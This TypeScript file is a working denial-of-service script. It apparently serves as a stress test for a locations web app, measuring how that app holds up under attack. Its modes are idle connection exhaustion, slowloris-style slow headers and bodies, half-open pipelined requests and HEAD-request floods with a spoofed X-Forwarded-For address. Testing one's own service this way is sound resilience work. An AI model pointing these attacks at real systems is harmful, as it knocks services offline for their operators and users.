/** Run as a process of its own, so that what it costs to attack does not slow whoever measures. Usage: KIND URL */
import { connect, type Socket } from "node:net";

const [kind = "", url = ""] = process.argv.slice(2);
const { hostname, port, host } = new URL(url);

const open = (first: string, then?: (socket: Socket) => void) => {
  const socket = connect(Number(port), hostname, () => {
    if (first) socket.write(first);
    then?.(socket);
  });
  socket.on("error", () => {});
  return socket;
};
/** Keeps `count` of them open: whoever is thrown out comes back. */
const keepOpen = (count: number, start: () => Socket) => {
  const one = () => start().on("close", () => setTimeout(one, 200));
  for (let i = 0; i < count; i++) setTimeout(one, i / 2);
};
const drip = (text: string) => (socket: Socket) => {
  const timer = setInterval(() => socket.writable && socket.write(text), 1_000);
  socket.on("close", () => clearInterval(timer));
};

const ATTACKS: Readonly<Record<string, () => void>> = {
  idle: () => keepOpen(2_000, () => open("").resume()),
  "slow headers": () => keepOpen(500, () => open(`GET / HTTP/1.1\r\nHost: ${host}\r\n`, drip("X-A: b\r\n")).resume()),
  "slow bodies": () =>
    keepOpen(500, () =>
      open(`POST /api/search/nearby HTTP/1.1\r\nHost: ${host}\r\nContent-Length: 5000\r\n\r\n{`, drip(" ")).resume(),
    ),
  // Asks for much and reads nothing of it.
  "half open": () =>
    keepOpen(200, () => open(`GET /api/haunted-locations HTTP/1.1\r\nHost: ${host}\r\n\r\n`.repeat(5)).pause()),
  "search flood": () => flood((i) => `/search?q=flood${i}`),
  "filter flood": () => flood((i) => `/all-locations?q=flood${i}`),
  "flood of pages that do not exist": () => flood((i) => `/location/flood-${i}`),
};

/** 32 connections from one address, each asking again as soon as it was answered. */
function flood(pathOf: (i: number) => string): void {
  let i = 0;
  keepOpen(32, () => {
    const ask = () => `HEAD ${pathOf(i++)} HTTP/1.1\r\nHost: ${host}\r\nX-Forwarded-For: 203.0.113.66\r\n\r\n`;
    const socket = open(ask());
    return socket.on("data", (chunk) => {
      if (String(chunk).endsWith("\r\n\r\n")) socket.write(ask());
    });
  });
}

ATTACKS[kind]!();
